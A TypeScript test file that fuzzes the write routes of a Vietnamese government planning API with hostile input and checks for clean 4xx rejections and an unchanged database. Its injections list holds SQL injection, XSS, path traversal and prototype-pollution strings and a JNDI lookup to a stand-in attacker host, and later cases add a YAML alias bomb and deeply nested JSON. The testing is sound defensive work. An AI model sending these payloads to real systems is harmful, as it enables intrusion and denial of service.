/**
 * Hostile input against every write route on the real stack: thousands of generated bodies
 * (fast-check), each broken in at least one way — an unknown field, a required field of the
 * wrong type, an injection-shaped or oversized value where a format is required — with more
 * injection-shaped noise in the free-text fields, plus malformed and oversized raw bodies and
 * hostile path segments. Sent as an admin, so every request reaches validation.
 *
 * Every answer must be a 4xx problem document, and afterwards every table and every
 * workflow history must be exactly as before.
 */
import fc from 'fast-check';
import { routes } from '../../api/routes';
import { startStack, type Stack } from '../../dev/stack';
import { plan925 } from '../support/fixtures';
import { assignmentWorkflowStarted, httpClient, type HttpAnswer } from '../support/http';
import { answerFault } from '../support/openapi-check';

const RUNS_PER_ROUTE = 150;

const injections = [
  "'; DROP TABLE units; --",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\u0000\u0001\u001f',
  '\ud800',
  'Robert"); DELETE FROM assignments; --',
  '%00%27%22',
  '\u202etxt.exe',
  'x'.repeat(300),
];

let stack: Stack;
let admin: ReturnType<typeof httpClient>;
let adminToken: string;
const ids: Record<string, string> = {};

beforeAll(async () => {
  stack = await startStack();
  adminToken = (await stack.signIn('admin')).token;
  admin = httpClient(stack.baseUrl, adminToken);
  for (const unit of [
    { code: 'SO-VHTTDL', name: 'Sở Văn hóa, Thể thao và Du lịch', kind: 'department' },
    { code: 'X-HAMON', name: 'Ủy ban nhân dân xã Hà Mòn', kind: 'commune' },
    { code: 'X-DAKMAR', name: 'Ủy ban nhân dân xã Đắk Mar', kind: 'commune' },
  ]) {
    expect((await admin.post('/units', unit)).status).toBe(201);
  }
  const plan = await admin.post(
    '/plans',
    plan925({
      assigningUnit: 'SO-VHTTDL',
      tasks: [{ code: 'NV1', title: 'Tập huấn kỹ năng phòng, chống bạo lực gia đình', kind: 'training', leadUnit: 'X-HAMON', deadline: '2030-06-30' }],
    }),
  );
  ids.plan = plan.body.id;
  ids.assignment = (await admin.get(`/plans/${ids.plan}`)).body.tasks[0].assignments[0].id;
  await assignmentWorkflowStarted(admin, ids.assignment!);
  // Proposed by the commune: nobody decides on their own proposal, so the admin's decisions reach validation.
  const commune = httpClient(stack.baseUrl, (await stack.signIn('unit_officer', 'X-HAMON')).token);
  ids.proposal = (await commune.post(`/plans/${ids.plan}/proposals`, { title: 'Hội thi gia đình văn hóa', kind: 'commemoration', deadline: '2030-03-20' })).body.id;
  ids.apiKey = (await admin.post('/api-keys', { name: 'Hệ thống văn bản', role: 'leader' })).body.id;
  ids.account = (await stack.signIn('unit_officer', 'X-HAMON')).accountId;
  ids.draft = (await admin.post('/plan-drafts', { ownerUnit: 'SO-VHTTDL', content: { code: '100/KH-SVHTTDL', title: 'Dự thảo kế hoạch' } })).body.id;
});

afterAll(async () => {
  await stack?.stop();
});

/** A valid body per write route; `formats` are fields whose format no injection string satisfies. */
const templates: Record<string, { body: Record<string, unknown>; required: string[]; formats: string[] }> = {
  'POST /plans': {
    body: plan925({ code: '99/KH-UBND', tasks: [{ code: 'NV1', title: 'Tuyên truyền', kind: 'campaign', leadUnit: 'X-HAMON', deadline: '2030-01-10' }] }),
    required: ['code', 'title', 'tasks', 'issuedOn'],
    formats: ['issuedOn', 'code'],
  },
  'POST /plans/:id/proposals': {
    body: { unit: 'X-HAMON', title: 'Liên hoan gia đình', kind: 'commemoration', deadline: '2030-03-20' },
    required: ['title', 'kind', 'deadline'],
    formats: ['unit', 'kind', 'deadline'],
  },
  'POST /plans/:id/proposals/:rid/approve': { body: { note: 'Đồng ý' }, required: [], formats: [] },
  'POST /plans/:id/proposals/:rid/reject': { body: { note: 'Chưa phù hợp' }, required: [], formats: [] },
  'POST /plans/:id/amendments': {
    body: { kind: 'cancelTask', task: 'NV1', reason: 'Điều chỉnh theo chỉ đạo', document: 'Công văn số 1234/UBND-KGVX' },
    required: ['kind', 'task', 'reason', 'document'],
    formats: ['kind'],
  },
  'POST /plans/:id/close': { body: { reason: 'Hết kỳ kế hoạch', openWork: 'cancel' }, required: ['reason'], formats: ['openWork'] },
  'POST /plans/:id/cancel': { body: { reason: 'Thay thế bằng kế hoạch khác', document: 'Quyết định số 456/QĐ-UBND' }, required: ['reason'], formats: [] },
  'POST /plans/:id/copy': { body: { period: { from: '2031-01-01', to: '2031-12-31' } }, required: [], formats: [] },
  'POST /plan-drafts': { body: { ownerUnit: 'SO-VHTTDL', content: { title: 'Dự thảo' } }, required: ['content'], formats: [] },
  'PATCH /plan-drafts/:id': { body: { content: { title: 'Dự thảo' } }, required: ['content'], formats: [] },
  'DELETE /plan-drafts/:id': { body: {}, required: [], formats: [] }, // path only
  'POST /plan-drafts/:id/issue': { body: {}, required: [], formats: [] },
  'POST /units': { body: { code: 'X-MOI', name: 'Xã mới', kind: 'commune' }, required: ['code', 'name', 'kind'], formats: ['code', 'kind', 'parentCode', 'email'] },
  'POST /units/import': { body: { units: [{ code: 'X-MOI', name: 'Xã mới', kind: 'commune' }] }, required: ['units'], formats: [] },
  'PATCH /units/:id': { body: { name: 'Ủy ban nhân dân xã Hà Mòn (mới)' }, required: [], formats: ['parentCode', 'email', 'kind'] },
  'POST /units/:id/merge': { body: { into: 'X-DAKMAR', reason: 'Sáp nhập' }, required: ['into', 'reason'], formats: ['into'] },
  'POST /assignments/:id/activities': {
    body: { kind: 'training', date: '2024-05-10', place: 'Hội trường UBND xã', organiser: 'Sở VHTTDL', audience: 'family_officials', plannedParticipants: 40, actualParticipants: 38 },
    required: ['kind', 'date', 'place'], // text fields: a number is a valid count, not a wrong type
    formats: ['kind', 'date', 'audience'],
  },
  'POST /assignments/:id/extension-requests': { body: { deadline: '2030-12-31', reason: 'Chờ kinh phí' }, required: ['deadline', 'reason'], formats: ['deadline'] },
  'POST /assignments/:id/extension-requests/:rid/approve': { body: { note: 'Đồng ý' }, required: [], formats: [] },
  'POST /assignments/:id/extension-requests/:rid/reject': { body: { note: 'Không' }, required: [], formats: [] },
  'POST /assignments/:id/reassign': { body: { unit: 'X-DAKMAR', reason: 'Điều chỉnh' }, required: ['unit', 'reason'], formats: ['unit'] },
  'POST /assignments/:id/start': { body: { note: 'Bắt đầu' }, required: [], formats: [] },
  'POST /assignments/:id/submit': {
    body: { summary: 'Đã tập huấn', figures: { participants: 40 }, evidence: ['https://vanban.example.vn/a.pdf'], files: [] },
    required: ['summary'],
    formats: ['evidence', 'files'],
  },
  // Files come as a form: every JSON body, hostile or not, is refused for its media type.
  'POST /assignments/:id/files': { body: {}, required: [], formats: [] },
  'DELETE /assignments/:id/files/:rid': { body: {}, required: [], formats: [] }, // path only
  'POST /assignments/:id/approve': { body: { note: 'Đạt' }, required: [], formats: [] },
  'POST /assignments/:id/return': { body: { reason: 'Bổ sung' }, required: ['reason'], formats: [] },
  'POST /assignments/:id/complete': { body: { summary: 'Đã xong' }, required: ['summary'], formats: [] },
  'POST /assignments/:id/cancel': { body: { reason: 'Điều chỉnh' }, required: ['reason'], formats: [] },
  'POST /assignments/:id/restart': { body: { reason: 'Khởi động lại quy trình' }, required: ['reason'], formats: [] },
  'POST /accounts': {
    body: { username: 'canbo.moi', displayName: 'Cán bộ mới', role: 'unit_officer', unit: 'X-HAMON', password: 'mot-mat-khau-dai' },
    required: ['username', 'displayName', 'role', 'password'],
    formats: ['role', 'unit'],
  },
  'PATCH /accounts/:id': { body: { displayName: 'Cán bộ xã Hà Mòn' }, required: [], formats: ['role', 'unit', 'email'] },
  'POST /accounts/:id/reset-password': { body: { password: 'mot-mat-khau-tam-thoi' }, required: ['password'], formats: [] },
  'POST /accounts/:id/deactivate': { body: { reason: 'Chuyển công tác' }, required: [], formats: [] },
  'POST /accounts/:id/reactivate': { body: { reason: 'Trở lại công tác' }, required: [], formats: [] },
  'POST /me/password': { body: { currentPassword: 'mat-khau-hien-tai', newPassword: 'mot-mat-khau-moi-dai' }, required: ['currentPassword', 'newPassword'], formats: [] },
  'POST /auth/logout': { body: {}, required: [], formats: [] },
  'POST /me/notices/read': { body: {}, required: [], formats: [] },
  'POST /me/notices/:id/read': { body: {}, required: [], formats: [] },
  'PATCH /me/notice-settings': { body: { digestTime: '07:00', urgentOnDaysOff: true }, required: [], formats: ['digestTime'] },
  'POST /delegations': {
    body: { deputy: '00000000-0000-4000-8000-000000000000', kind: 'deputy', reason: 'Đi công tác', from: '2030-01-01T00:00:00+07:00', to: '2030-01-04T00:00:00+07:00' },
    required: ['deputy', 'kind', 'reason', 'from', 'to'],
    formats: ['deputy', 'kind', 'from', 'to'],
  },
  'POST /delegations/:id/end': { body: { reason: 'Về sớm' }, required: [], formats: [] },
  'POST /me/calendar-feeds': { body: { unit: 'X-HAMON' }, required: [], formats: [] },
  'DELETE /me/calendar-feeds/:id': { body: {}, required: [], formats: [] }, // path only
  'POST /api-keys': { body: { name: 'Tích hợp', role: 'leader' }, required: ['name', 'role'], formats: ['role', 'unit'] },
  'DELETE /api-keys/:id': { body: {}, required: [], formats: [] }, // path only
  'POST /auth/login': { body: { username: 'admin', password: 'sai-mat-khau' }, required: ['username', 'password'], formats: [] },
};

// Routes that take a document rather than JSON have their own hostile cases (plan-documents.test.ts).
const writeRoutes = [...routes.filter((route) => route.method !== 'get' && !route.docs.document).map((route) => `${route.method.toUpperCase()} ${route.path}`), 'POST /auth/login'];

const concretePath = (path: string) =>
  path
    .replace(':id/proposals/:rid', `${ids.plan}/proposals/${ids.proposal}`)
    .replace('/plans/:id', `/plans/${ids.plan}`)
    .replace('/plan-drafts/:id', `/plan-drafts/${ids.draft}`)
    .replace('extension-requests/:rid', 'extension-requests/00000000-0000-4000-8000-000000000000')
    .replace('files/:rid', 'files/00000000-0000-4000-8000-000000000000')
    .replace('/assignments/:id', `/assignments/${ids.assignment}`)
    .replace('/api-keys/:id', `/api-keys/${ids.apiKey}`)
    .replace('/accounts/:id', `/accounts/${ids.account}`)
    .replace('/units/:id', '/units/X-HAMON')
    .replace('/me/notices/:id', '/me/notices/1')
    .replace('/delegations/:id', '/delegations/00000000-0000-4000-8000-000000000000')
    .replace('/me/calendar-feeds/:id', '/me/calendar-feeds/00000000-0000-4000-8000-000000000000');

const injection = fc.constantFrom(...injections);
/** Injections no code, name or key format accepts: `constructor` is a well-formed unit code. */
const malformed = fc.constantFrom(...injections.filter((value) => !/^[\p{L}\p{N}_.-]{1,64}$/u.test(value)));
const wrongType = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.integer(), { maxLength: 3 }), fc.object({ maxDepth: 2 }));
/** A field that takes an object (a draft's content, every field optional) is wrong as anything but an object. */
const notAnObject = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.string(), fc.array(fc.integer(), { maxLength: 3 }));
const isPlainObject = (value: unknown) => typeof value === 'object' && value !== null && !Array.isArray(value);
const oversized = fc.integer({ min: 11_000, max: 200_000 }).map((length) => 'ạ'.repeat(length));

/** One broken body: a guaranteed violation, plus noise that may or may not be valid on its own. */
function hostileBody(key: string): fc.Arbitrary<unknown> {
  const { body, required, formats } = templates[key]!;
  const violations: fc.Arbitrary<Record<string, unknown>>[] = [
    fc.tuple(fc.string({ minLength: 1, maxLength: 20 }).filter((name) => !(name in body) && name !== '__proto__'), fc.jsonValue()).map(([name, value]) => ({ ...body, [name]: value })),
  ];
  if (required.length > 0) {
    violations.push(
      fc.constantFrom(...required).chain((field) => (isPlainObject(body[field]) ? notAnObject : wrongType).map((value) => ({ ...body, [field]: value }))),
    );
    violations.push(fc.constantFrom(...required).map((field) => Object.fromEntries(Object.entries(body).filter(([name]) => name !== field))));
    violations.push(fc.tuple(fc.constantFrom(...required), oversized).map(([field, value]) => ({ ...body, [field]: value })));
  }
  if (formats.length > 0) violations.push(fc.tuple(fc.constantFrom(...formats), malformed).map(([field, value]) => ({ ...body, [field]: value })));
  const noise = fc.array(fc.tuple(fc.constantFrom(...Object.keys(body), 'note', 'reason'), fc.oneof(injection, fc.string())), { maxLength: 3 });
  return fc
    .tuple(fc.oneof(...violations), noise)
    .map(([broken, extra]) => {
      // Noise never replaces the violation itself.
      const safeExtra = extra.filter(([field]) => broken[field] === body[field] && field in broken);
      return { ...broken, ...Object.fromEntries(safeExtra) };
    })
}

async function send(method: string, url: string, body: string | undefined, contentType = 'application/json'): Promise<HttpAnswer> {
  const response = await fetch(`${stack.baseUrl}${url}`, {
    method,
    headers: { authorization: `Bearer ${adminToken}`, ...(body !== undefined && { 'content-type': contentType }) },
    body,
  });
  const text = await response.text();
  let parsed: unknown;
  try {
    parsed = text ? JSON.parse(text) : undefined;
  } catch {
    parsed = text;
  }
  const answer = { status: response.status, contentType: response.headers.get('content-type') ?? '', headers: response.headers, body: parsed };
  const fault = answerFault(method, url, answer.status, answer.contentType, answer.body);
  if (fault) throw new Error(fault);
  return answer;
}

/** Every row of every table, hashed, and every workflow's history length. */
async function snapshot() {
  const tables = await stack.db.$queryRaw<{ name: string }[]>`
    SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public' AND tablename <> '_prisma_migrations' ORDER BY tablename`;
  const rows: Record<string, string> = {};
  for (const { name } of tables) {
    const [row] = await stack.db.$queryRawUnsafe<{ digest: string | null; count: bigint }[]>(
      `SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) AS digest, count(*) AS count FROM "${name}" t`,
    );
    rows[name] = `${row!.count}:${row!.digest}`;
  }
  const histories: Record<string, number> = {};
  for await (const workflow of stack.temporal.workflow.list()) histories[workflow.workflowId] = workflow.historyLength;
  return { rows, histories };
}

// Before the generated requests, which use up the failed sign-ins one address is allowed.
describe('sign-in with a username that is not text', () => {
  it.each([
    ['an object', '{"username": {"toString": 1}, "password": "mot-mat-khau"}'],
    ['an empty object', '{"username": {}, "password": "mot-mat-khau"}'],
    ['a list', '{"username": ["admin"], "password": "mot-mat-khau"}'],
  ])('answers %s with 400 naming the username', async (_what, body) => {
    const answer = await send('POST', '/auth/login', body);
    expect(answer.status).toBe(400);
    expect(answer.contentType).toContain('application/problem+json');
    expect((answer.body as { errors: { path: string }[] }).errors.map((issue) => issue.path)).toContain('username');
  });
});

describe('hostile input', () => {
  it('has a template for every write route', () => {
    expect([...writeRoutes].sort()).toEqual(Object.keys(templates).sort());
  });

  it('answers every malformed request with a 4xx problem document and changes nothing', async () => {
    const before = await snapshot();
    const failures: string[] = [];
    const statuses = new Map<number, number>();
    let sent = 0;
    const check = (what: string, answer: HttpAnswer) => {
      sent += 1;
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      const problem = answer.body as { type?: unknown; status?: unknown; detail?: unknown } | undefined;
      const ok =
        answer.status >= 400 &&
        answer.status < 500 &&
        answer.contentType.startsWith('application/problem+json') &&
        typeof problem?.type === 'string' &&
        problem.status === answer.status &&
        typeof problem.detail === 'string' &&
        !JSON.stringify(problem).includes('    at ');
      if (!ok && failures.length < 20) failures.push(`${what}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 200)}`);
    };

    for (const [index, key] of writeRoutes.entries()) {
      const [method, path] = key.split(' ') as [string, string];
      const url = concretePath(path);
      // A DELETE reads no body: only its path can be hostile.
      const bodies = method === 'DELETE' ? [] : fc.sample(hostileBody(key), { numRuns: RUNS_PER_ROUTE, seed: 20261123 + index });
      for (const body of bodies) check(`${key} ${JSON.stringify(body).slice(0, 120)}`, await send(method, url, JSON.stringify(body)));

      const raw: [string, string | undefined, string?][] = [
        ['truncated JSON', '{"summary": '],
        ['a JSON string', '"complete"'],
        ['JSON null', 'null'],
        ['an array', '[1,2,3]'],
        ['deep nesting', '['.repeat(5_000) + ']'.repeat(5_000)],
        ['over the size limit', JSON.stringify({ summary: 'x'.repeat(1_100_000) })],
        ['form-encoded', 'summary=x&__proto__=1', 'application/x-www-form-urlencoded'],
        ['prototype pollution', '{"__proto__": {"admin": true}, "constructor": {"prototype": {"x": 1}}}'],
      ];
      for (const [what, body, contentType] of raw) {
        if (method === 'DELETE') continue;
        check(`${key} ${what}`, await send(method, url, body, contentType));
      }
      for (const segment of injections.slice(0, 6)) {
        if (!path.includes(':')) continue;
        const hostileUrl = url.replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|X-HAMON/, encodeURIComponent(segment));
        check(`${key} path ${segment}`, await send(method, hostileUrl, method === 'DELETE' ? undefined : JSON.stringify(templates[key]!.body)));
      }
    }

    const after = await snapshot();
    const changedTables = Object.keys(before.rows).filter((table) => before.rows[table] !== after.rows[table]);
    const changedWorkflows = Object.keys(after.histories).filter((id) => before.histories[id] !== after.histories[id]);
    process.stdout.write(
      `hostile input: ${sent} requests to ${writeRoutes.length} write routes; answers ${JSON.stringify(Object.fromEntries(statuses))}; ` +
        `5xx: ${[...statuses].filter(([status]) => status >= 500).reduce((sum, [, count]) => sum + count, 0)}; ` +
        `tables changed: ${changedTables.length}; workflow histories changed: ${changedWorkflows.length}\n`,
    );
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThan(2_500);
    expect(changedTables).toEqual([]);
    expect(changedWorkflows).toEqual([]);
    expect(Object.keys(after.histories).sort()).toEqual(Object.keys(before.histories).sort());
  });
});

describe('hostile shapes', () => {
  /** A plan in YAML whose title is `title`, written as given (quoted escapes included). */
  const yamlPlan = (code: string, title: string) =>
    [`code: ${code}`, `title: ${title}`, 'issuingBody: Ủy ban nhân dân tỉnh', 'issuedOn: "2024-03-20"', 'period: { from: "2024-01-01", to: "2030-12-31" }', 'assigningUnit: SO-VHTTDL', 'tasks:', '  - { code: NV1, title: Tuyên truyền, kind: campaign, leadUnit: X-HAMON, deadline: "2030-01-10" }'].join('\n');
  /** A billion laughs: ten levels of ten aliases each. */
  const aliasBomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]', ...Array.from({ length: 9 }, (_, level) => `l${level}: &l${level} [${Array(10).fill(level === 0 ? '*a' : `*l${level - 1}`).join(', ')}]`)].join('\n');
  const deepArray = '['.repeat(5_000) + ']'.repeat(5_000);
  const deepObject = '{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000);

  /** Each case: what is sent, and the field (or document position) the 4xx problem must name. */
  const cases = (): { what: string; method: string; url: string; body?: string; contentType?: string; headers?: Record<string, string>; names: RegExp }[] => [
    ...writeRoutes
      .filter((key) => !key.startsWith('DELETE'))
      .flatMap((key) => {
        const [method, path] = key.split(' ') as [string, string];
        return [
          { what: `${key} deeply nested array with an Idempotency-Key`, method, url: concretePath(path), body: deepArray, headers: { 'idempotency-key': `deep-array-${key.replace(/\W+/g, '-')}` }, names: /nest/ },
          { what: `${key} deeply nested object with an Idempotency-Key`, method, url: concretePath(path), body: deepObject, headers: { 'idempotency-key': `deep-object-${key.replace(/\W+/g, '-')}` }, names: /nest/ },
        ];
      }),
    { what: 'a figure named __proto__', method: 'POST', url: concretePath('/assignments/:id/submit'), body: '{"summary": "Đã xong", "figures": {"households": 3, "__proto__": 1}}', names: /^figures\.__proto__$/ },
    { what: 'YAML with too many aliases', method: 'POST', url: '/plans', body: aliasBomb, contentType: 'application/yaml', names: /yaml/ },
    { what: 'YAML with an alias to nothing', method: 'POST', url: '/plans', body: 'code: *nothing', contentType: 'application/yaml', names: /yaml/ },
    { what: 'YAML with a lone surrogate', method: 'POST', url: '/plans', body: yamlPlan('70/KH-UBND', '"Kế hoạch \\udfff"'), contentType: 'application/yaml', names: /^title$/ },
    { what: 'YAML with a control character', method: 'POST', url: '/plans', body: yamlPlan('71/KH-UBND', '"Kế hoạch \\x07"'), contentType: 'application/yaml', names: /^title$/ },
    { what: 'a lone surrogate in a unit name', method: 'POST', url: '/units', body: '{"code": "X-SURR", "name": "Xã \\udfff", "kind": "commune"}', names: /^name$/ },
    { what: 'a lone surrogate in a note', method: 'POST', url: concretePath('/assignments/:id/start'), body: '{"note": "\\ud800 bắt đầu"}', names: /^note$/ },
    { what: 'a lone surrogate in a plan title', method: 'POST', url: '/plans', body: JSON.stringify(templates['POST /plans']!.body).replace('"title":"', '"title":"\\udfff'), names: /^title$/ },
    { what: 'a bell in a unit name', method: 'PATCH', url: '/units/X-HAMON', body: '{"name": "Ủy ban nhân dân xã Hà Mòn\\u0007"}', names: /^name$/ },
    { what: 'a C1 control in a unit name', method: 'PATCH', url: '/units/X-HAMON', body: '{"name": "Ủy ban nhân dân xã Hà Mòn\\u0085"}', names: /^name$/ },
    { what: 'an escape sequence in a field name', method: 'POST', url: concretePath('/assignments/:id/start'), body: '{"no\\u001bte": "x"}', names: /te$/ },
    { what: 'a control character in a query', method: 'GET', url: '/audit?actor=adm%07in', names: /^actor$/ },
  ];

  it('answers each with a 4xx problem naming the cause, and changes nothing', async () => {
    const before = await snapshot();
    const wrong: string[] = [];
    for (const sample of cases()) {
      // A request the engine wedges on (a workflow update that never settles) is a failure, not a hung test.
      const sent = await fetch(`${stack.baseUrl}${sample.url}`, {
        method: sample.method,
        headers: { authorization: `Bearer ${adminToken}`, ...(sample.body !== undefined && { 'content-type': sample.contentType ?? 'application/json' }), ...sample.headers },
        body: sample.body,
        signal: AbortSignal.timeout(10_000),
      }).then(
        (response) => ({ response }),
        (error: { name?: string }) => ({ error }),
      );
      if ('error' in sent) {
        wrong.push(`${sample.what}: no answer (${sent.error.name})`);
        continue;
      }
      const { response } = sent;
      const text = await response.text();
      const problem = (() => {
        try {
          return JSON.parse(text) as { status?: number; errors?: { path: string; message: string }[] };
        } catch {
          return undefined;
        }
      })();
      const named = problem?.errors?.some((issue) => sample.names.test(issue.path) || sample.names.test(issue.message)) ?? false;
      if (response.status < 400 || response.status >= 500 || problem?.status !== response.status || !named) wrong.push(`${sample.what}: ${response.status} ${text.slice(0, 200)}`);
      const fault = answerFault(sample.method, sample.url, response.status, response.headers.get('content-type') ?? '', problem);
      if (fault) wrong.push(`${sample.what}: ${fault}`);
    }
    const after = await snapshot();
    expect(wrong).toEqual([]);
    expect(Object.keys(before.rows).filter((table) => before.rows[table] !== after.rows[table])).toEqual([]);
    expect(Object.keys(after.histories).filter((id) => before.histories[id] !== after.histories[id])).toEqual([]);
  }, 300_000);

  it('keeps text in Unicode normalisation form C, from JSON and from YAML', async () => {
    const decomposed = 'Ủy ban nhân dân xã Ngọc Wang'.normalize('NFD');
    expect(decomposed).not.toBe(decomposed.normalize('NFC'));
    const unit = await admin.post('/units', { code: 'X-NGOCWANG', name: decomposed, kind: 'commune' });
    expect(unit.status).toBe(201);
    expect((await stack.db.unit.findUniqueOrThrow({ where: { code: 'X-NGOCWANG' } })).name).toBe(decomposed.normalize('NFC'));

    const title = 'Kế hoạch tuyên truyền phòng, chống bạo lực gia đình'.normalize('NFD');
    const plan = await fetch(`${stack.baseUrl}/plans`, {
      method: 'POST',
      headers: { authorization: `Bearer ${adminToken}`, 'content-type': 'application/yaml' },
      body: yamlPlan('72/KH-UBND', `"${title}"`),
    });
    expect(plan.status).toBe(201);
    const stored = await stack.db.plan.findUniqueOrThrow({ where: { id: ((await plan.json()) as { id: string }).id } });
    expect(stored.title).toBe(title.normalize('NFC'));
  });
});
